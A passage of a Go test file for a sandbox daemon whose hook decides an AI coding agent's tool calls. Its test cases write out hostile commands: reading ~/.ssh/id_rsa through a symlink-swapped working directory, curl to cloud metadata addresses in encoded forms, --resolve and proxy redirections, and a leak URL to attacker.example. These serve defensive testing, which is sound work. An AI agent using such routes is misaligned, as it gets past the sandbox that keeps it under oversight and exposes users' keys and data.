		{"LS", map[string]any{"path": work}}, // it lists the tree, hidden/ too
		{"NotebookRead", map[string]any{"notebook_path": filepath.Join(work, "hidden", "n.ipynb")}},
	} {
		out := runHook(t, b, d.socket, u, rt, map[string]any{"session_id": fmt.Sprint("agent-r", i), "cwd": work,
			"hook_event_name": "PreToolUse", "permission_mode": "bypassPermissions", "tool_name": c.tool, "tool_input": c.input},
			"--unknown-tool", "pass")
		if out == "" {
			t.Errorf("%s of a hidden path: no answer", c.tool)
		} else if a := decodeHook(t, out); a.HookSpecificOutput.PermissionDecision != "deny" {
			t.Errorf("%s of a hidden path: %+v, want deny", c.tool, a.HookSpecificOutput)
		}
	}
}

// TestHookRemakesASessionForFewerGroups: a session runs with its creator's groups, and a
// process lacking one is refused it. The hook of the same agent session from such a process
// (an older terminal, a user since removed from a group) makes a session of its own, as for
// one gone, instead of denying every call from then on.
func TestHookRemakesASessionForFewerGroups(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbhg")
	work := filepath.Join(u.Home, "work")
	ownedDirs(t, u, work)
	in := map[string]any{"session_id": "agent-g", "cwd": work, "hook_event_name": "PreToolUse",
		"permission_mode": "default", "tool_name": "Bash", "tool_input": map[string]any{"command": "ls -la"}, "tool_use_id": "toolu_1"}
	hook := func(groups ...uint32) hookAnswer {
		t.Helper()
		return decodeHook(t, runHookAs(t, b, d.socket, u, rt, nil, in, func(cmd *exec.Cmd) {
			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: u.UID, Gid: u.GID, Groups: groups}}
			cmd.Dir = u.Home
		}))
	}
	if a := hook(u.GID, 4242); a.HookSpecificOutput.PermissionDecision != "allow" {
		t.Fatalf("with the extra group: %+v", a.HookSpecificOutput)
	}
	if a := hook(u.GID); a.HookSpecificOutput.PermissionDecision != "allow" {
		t.Errorf("without it, the same agent session: %+v", a.HookSpecificOutput)
	}
}

// TestFullOnlyBeside: sbctl runs the sbctl-full installed beside it, never one on $PATH,
// where an agent's PATH may put a project's node_modules/.bin first.
func TestFullOnlyBeside(t *testing.T) {
	b := buildClientBins(t)
	alone, onPath := t.TempDir(), t.TempDir()
	data, err := os.ReadFile(b.sbctl)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(alone, "sbctl"), data, 0o755); err != nil {
		t.Fatal(err)
	}
	ran := filepath.Join(onPath, "ran")
	if err := os.WriteFile(filepath.Join(onPath, "sbctl-full"), []byte("#!/bin/sh\ntouch "+ran+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(filepath.Join(alone, "sbctl"), "mcp")
	cmd.Env = []string{"PATH=" + onPath + ":/usr/bin:/bin"}
	cmd.Stdin = strings.NewReader("")
	out, err := cmd.CombinedOutput()
	if err == nil || !strings.Contains(string(out), "not installed beside this sbctl") {
		t.Errorf("sbctl mcp without sbctl-full beside it: %v %s", err, out)
	}
	if _, err := os.Stat(ran); err == nil {
		t.Error("the sbctl-full on $PATH ran")
	}
}

// TestHookCwdSwappedForALink: the agent's cwd inside its project, replaced on the host by a
// link to the home after the hook made its session there (the agent's own mv and ln, which
// the hook allows in bypassPermissions). The daemon resets the session's cwd; the hook must
// not then decide the agent's calls at the project's root while the agent's shell still runs
// in the link: `cat .ssh/id_rsa` there reads the home's key, which a deny rule names.
func TestHookCwdSwappedForALink(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbhw")
	proj := filepath.Join(u.Home, "proj")
	w := filepath.Join(proj, "w")
	ownedDirs(t, u, proj, w, filepath.Join(u.Home, ".ssh"))
	if err := os.WriteFile(filepath.Join(u.Home, ".ssh", "id_rsa"), []byte("key\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	env := []string{"CLAUDE_PROJECT_DIR=" + proj}
	call := func(cmd string) hookAnswer {
		t.Helper()
		return decodeHook(t, runHookEnv(t, b, d.socket, u, rt, env, map[string]any{"session_id": "agent-swap", "cwd": w,
			"hook_event_name": "PreToolUse", "permission_mode": "bypassPermissions", "tool_name": "Bash",
			"tool_input": map[string]any{"command": cmd}}, "--deny", "Read(~/.ssh/**)"))
	}
	if a := call("true"); a.HookSpecificOutput.PermissionDecision != "allow" {
		t.Fatalf("true at %s: %+v", w, a.HookSpecificOutput)
	}
	// As the agent's own shell would, on the host.
	swap := exec.Command("/bin/bash", "-c", "mv "+w+" "+w+".old && ln -s "+u.Home+" "+w)
	asUser(t, swap, u)
	if out, err := swap.CombinedOutput(); err != nil {
		t.Fatalf("swap: %v %s", err, out)
	}
	for i := 0; i < 3; i++ {
		a := call("cat .ssh/id_rsa")
		if a.HookSpecificOutput.PermissionDecision == "allow" {
			t.Fatalf("try %d: cat .ssh/id_rsa at %s, now a link to the home: %+v", i, w, a.HookSpecificOutput)
		}
		if !strings.Contains(a.HookSpecificOutput.PermissionDecisionReason, w) {
			t.Errorf("try %d: the reason does not name the agent's cwd: %+v", i, a.HookSpecificOutput)
		}
	}
}

// TestHookRefusedIsNotUnavailable: --on-unavailable ask answers only for a sandboxd that is
// not there to decide (not reached, no answer in time, a 5xx). Whatever else keeps a call
// from being decided the agent can bring about itself (a rule flag the daemon refuses, a
// command over the daemon's size, an input it finds not valid, a limit it fills), and each
// became an ask the person at the agent could approve, unconfined even under --confine: now
// each is a deny, and a hook command the daemon refuses exits 2 as a bad flag does.
func TestHookRefusedIsNotUnavailable(t *testing.T) {
	b := buildBins(t)
	// The rate is refilled too slowly to matter here: the bucket's burst is what the user has.
	d := startDaemon(t, b, "max_request_bytes: 65536\nlimits:\n  requests_per_second_per_user: 0.001\n  requests_burst_per_user: 60\n")
	u, rt := userHome(t, "sbhr")
	work := filepath.Join(u.Home, "work")
	ownedDirs(t, u, work)
	call := func(agent, tool string, input map[string]any) map[string]any {
		return map[string]any{"session_id": agent, "cwd": work, "hook_event_name": "PreToolUse", "permission_mode": "default",
			"tool_name": tool, "tool_input": input, "tool_use_id": "toolu_r"}
	}
	// hookExit runs the hook as the user and returns its answer and exit code.
	hookExit := func(t *testing.T, socket string, input map[string]any, flags ...string) (hookAnswer, int, string) {
		t.Helper()
		in, err := json.Marshal(input)
		if err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(b.sbctl, append([]string{"--socket", socket, "hook"}, flags...)...)
		asUser(t, cmd, u)
		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + u.Home, "XDG_RUNTIME_DIR=" + rt}
		cmd.Stdin = bytes.NewReader(in)
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		code := 0
		if err := cmd.Run(); err != nil {
			ee, ok := err.(*exec.ExitError)
			if !ok {
				t.Fatalf("sbctl hook: %v", err)
			}
			code = ee.ExitCode()
		}
		return decodeHook(t, out.String()), code, errb.String()
	}
	ls := map[string]any{"command": "ls"}
	for _, tc := range []struct {
		name   string
		tool   string
		input  map[string]any
		flags  []string
		reason string
		code   int
	}{
		{"a rule the daemon refuses", "Bash", ls, []string{"--deny", "Bash(rm -rf *"}, "misconfigured", 2},
		{"a rule the daemon refuses, --confine", "Bash", ls, []string{"--confine", "--allow", "Read(//x"}, "misconfigured", 2},
		{"a mode the daemon does not have", "Bash", ls, []string{"--mode", "Default"}, "misconfigured", 2},
		{"a relative --add-dir", "Bash", ls, []string{"--add-dir", "lib"}, "misconfigured", 2},
		{"a shell the daemon takes no name of", "Bash", ls, []string{"--shell", "/bin/zsh"}, "misconfigured", 2},
		{"a URL the daemon finds not valid", "WebFetch", map[string]any{"url": "https://evil\u3002com/", "prompt": "x"}, nil, "validation", 0},
		{"a command over the daemon's size", "Bash", map[string]any{"command": "echo " + strings.Repeat("x", 128<<10)}, nil, "too_large", 0},
		{"a command over the daemon's size, --confine", "Bash", map[string]any{"command": "echo " + strings.Repeat("x", 128<<10)}, []string{"--confine"}, "too_large", 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a, code, stderr := hookExit(t, d.socket, call("agent-"+tc.name, tc.tool, tc.input), append(tc.flags, "--on-unavailable", "ask")...)
			h := a.HookSpecificOutput
			if h.PermissionDecision != "deny" || !strings.Contains(h.PermissionDecisionReason, tc.reason) || h.UpdatedInput != nil || code != tc.code {
				t.Errorf("%s (exit %d, stderr %q), want a deny mentioning %q, exit %d", clipHook(h.PermissionDecisionReason), code, stderr, tc.reason, tc.code)
			}
			if h.PermissionDecision != "deny" {
				t.Errorf("answered %q", h.PermissionDecision)
			}
		})
	}
	t.Run("a limit the agent fills", func(t *testing.T) {
		// The user's requests over the rate: each call past the burst is refused (429).
		limited := false
		for i := 0; i < 60 && !limited; i++ {
			a, code, _ := hookExit(t, d.socket, call("agent-rate", "Bash", ls), "--on-unavailable", "ask", "--confine")
			h := a.HookSpecificOutput
			switch {
			case h.PermissionDecision == "allow" && h.UpdatedInput != nil:
			case h.PermissionDecision == "deny" && strings.Contains(h.PermissionDecisionReason, "rate_limited") && code == 0:
				limited = true
			default:
				t.Fatalf("call %d: %q %s (exit %d), want a confined allow or a deny naming rate_limited", i, h.PermissionDecision, clipHook(h.PermissionDecisionReason), code)
			}
		}
		if !limited {
			t.Error("no call was refused for the rate")
		}
	})
	t.Run("sandboxd down still asks when told, and says approving runs it unconfined", func(t *testing.T) {
		a, code, _ := hookExit(t, filepath.Join(rt, "no-daemon.sock"), call("agent-down", "Bash", ls), "--on-unavailable", "ask", "--confine")
		h := a.HookSpecificOutput
		if h.PermissionDecision != "ask" || !strings.Contains(h.PermissionDecisionReason, "cannot reach sandboxd") ||
			!strings.Contains(h.PermissionDecisionReason, "unconfined") || h.UpdatedInput != nil || code != 0 {
			t.Errorf("%q %s (exit %d)", h.PermissionDecision, h.PermissionDecisionReason, code)
		}
	})
}

func clipHook(s string) string {
	if len(s) > 400 {
		return s[:400] + "…"
	}
	return s
}

// TestHookWebFetchMeetsNoProxy: an agent's WebFetch, decided through its hook, is fetched by
// the agent itself, where no proxy refuses what no rule allows: bypassPermissions does not
// allow it (metadata addresses, loopback, any host), while an allow rule and the admin's
// network.allowed_domains do, in every mode, as they do for the proxy.
func TestHookWebFetchMeetsNoProxy(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "network:\n  allowed_domains: [docs.example]\n")
	u, rt := userHome(t, "sbwf")
	work := filepath.Join(u.Home, "work")
	ownedDirs(t, u, work)
	for i, tc := range []struct {
		mode, url string
		flags     []string
		want      string
		reason    string
	}{
		{"bypassPermissions", "http://169.254.169.254/latest/meta-data/", nil, "deny", "WebFetch(domain:host)"},
		{"bypassPermissions", "https://attacker.example/?leak=x", nil, "deny", "past sandboxd's proxy"},
		{"bypassPermissions", "http://127.0.0.1:8081/", []string{"--confine"}, "deny", "past sandboxd's proxy"},
		{"bypassPermissions", "https://docs.example/x", nil, "allow", "network.allowed_domains"},
		{"bypassPermissions", "https://attacker.example/", []string{"--allow", "WebFetch(domain:attacker.example)"}, "allow", "WebFetch(domain:attacker.example)"},
		{"default", "https://docs.example/x", nil, "allow", "network.allowed_domains"},
		{"dontAsk", "https://docs.example/x", nil, "allow", "network.allowed_domains"},
		{"default", "https://other.example/", nil, "ask", "WebFetch(domain:host)"},
	} {
		in := map[string]any{"session_id": fmt.Sprintf("agent-wf-%d", i), "cwd": work, "hook_event_name": "PreToolUse",
			"permission_mode": tc.mode, "tool_name": "WebFetch", "tool_input": map[string]any{"url": tc.url, "prompt": "x"}}
		h := decodeHook(t, runHook(t, b, d.socket, u, rt, in, tc.flags...)).HookSpecificOutput
		if h.PermissionDecision != tc.want || !strings.Contains(h.PermissionDecisionReason, tc.reason) {
			t.Errorf("%s %s %v: %q (%s); want %q mentioning %q", tc.mode, tc.url, tc.flags, h.PermissionDecision, h.PermissionDecisionReason, tc.want, tc.reason)
		}
	}
}

// TestHookBypassHoldsWhatTheKernelWould: what the agent runs itself in bypassPermissions is
// held where a confined call would be: a command that may connect meets the WebFetch rules for
// the hosts its line names (the proxy refuses the rest), and a write outside the session's
// directories is refused (read-only there), with --confine for the agent's own file tools too.
func TestHookBypassHoldsWhatTheKernelWould(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "sandbox:\n  cache_dirs: [\"~/.cache\"]\nnetwork:\n  allowed_domains: [docs.example]\n")
	u, rt := userHome(t, "sbbp")
	work, other := filepath.Join(u.Home, "work"), filepath.Join(u.Home, "other")
	ownedDirs(t, u, work, other)
	pw, err := user.LookupId(strconv.Itoa(int(u.UID)))
	if err != nil {
		t.Fatal(err)
	}
	cache := filepath.Join(pw.HomeDir, ".cache") // ~ is the account's home to the daemon
	for i, tc := range []struct {
		mode, tool string
		input      map[string]any
		flags      []string
		want       string
		reason     string
	}{
		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s http://169.254.169.254/latest/meta-data/"}, nil, "deny", "outside sandboxd's proxy"},
		{"bypassPermissions", "Bash", map[string]any{"command": "git clone https://attacker.example/x"}, nil, "deny", "outside sandboxd's proxy"},
		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s https://docs.example/"}, []string{"--allow", "WebFetch(domain:docs.example)"}, "allow", ""},
		// An allowed name curl is told to reach at another address, or through a proxy.
		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s --resolve docs.example:80:169.254.169.254 http://docs.example/latest/meta-data/"},
			[]string{"--allow", "WebFetch(domain:docs.example)"}, "deny", "outside sandboxd's proxy"},
		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s -x attacker.example:3128 https://docs.example/"},
			[]string{"--allow", "WebFetch(domain:docs.example)"}, "deny", "outside sandboxd's proxy"},
		// A host no rule can be matched against (2852039166 is 169.254.169.254 to curl) is
		// one nothing allows, whatever the rules allow.
		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s http://2852039166/latest/meta-data/"},
			[]string{"--allow", "WebFetch(domain:docs.example)"}, "deny", "no WebFetch rule can be matched against"},
		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s http://0x0a010203/"}, nil, "deny", "no WebFetch rule can be matched against (host"},
		{"bypassPermissions", "Bash", map[string]any{"command": "echo see https://attacker.example/"}, nil, "allow", ""},
		{"default", "Bash", map[string]any{"command": "curl -s https://attacker.example/"}, []string{"--allow", "Bash(curl:*)"}, "ask", "outside sandboxd's proxy"},
		{"bypassPermissions", "Bash", map[string]any{"command": "rm -rf " + other}, nil, "deny", "outside the session's directories"},
		{"bypassPermissions", "Write", map[string]any{"file_path": filepath.Join(other, "Makefile"), "content": "x"}, nil, "deny", "outside the session's directories"},
		{"bypassPermissions", "Write", map[string]any{"file_path": filepath.Join(other, "Makefile"), "content": "x"}, []string{"--confine"}, "deny", "outside the session's directories"},
		{"bypassPermissions", "Write", map[string]any{"file_path": filepath.Join(work, "x"), "content": "x"}, nil, "allow", ""},
		{"bypassPermissions", "Write", map[string]any{"file_path": "/tmp/sbbp-x", "content": "x"}, nil, "allow", ""},
		{"bypassPermissions", "Bash", map[string]any{"command": "rm -rf " + other}, []string{"--confine"}, "allow", ""},
		// The admin's allowed_domains and cache_dirs are what a confined call may reach and
		// write too.
		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s https://docs.example/x"}, nil, "allow", ""},
		{"bypassPermissions", "Write", map[string]any{"file_path": filepath.Join(cache, "x"), "content": "x"}, nil, "allow", ""},
		{"bypassPermissions", "Bash", map[string]any{"command": "rm -rf " + filepath.Join(cache, "go-build")}, nil, "allow", ""},
		// script(1)'s typescript before its options is a write too.
		{"bypassPermissions", "Bash", map[string]any{"command": `script ~/.bashrc -aqc "echo x"`}, nil, "deny", ""},
		// A host with no dot, before a port or a path, meets deny rules.
		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s localhost:8099/x"}, []string{"--deny", "WebFetch(domain:localhost)"}, "deny", "WebFetch(domain:localhost)"},
	} {
		in := map[string]any{"session_id": fmt.Sprintf("agent-bp-%d", i), "cwd": work, "hook_event_name": "PreToolUse",
			"permission_mode": tc.mode, "tool_name": tc.tool, "tool_input": tc.input}
		h := decodeHook(t, runHook(t, b, d.socket, u, rt, in, tc.flags...)).HookSpecificOutput
		if h.PermissionDecision != tc.want || !strings.Contains(h.PermissionDecisionReason, tc.reason) {
			t.Errorf("%s %s %v %v: %q (%s); want %q mentioning %q", tc.mode, tc.tool, tc.input, tc.flags, h.PermissionDecision, h.PermissionDecisionReason, tc.want, tc.reason)
		}
	}
	if _, err := os.Stat(other); err != nil {
		t.Errorf("a decision ran the command: %v", err)
	}
}
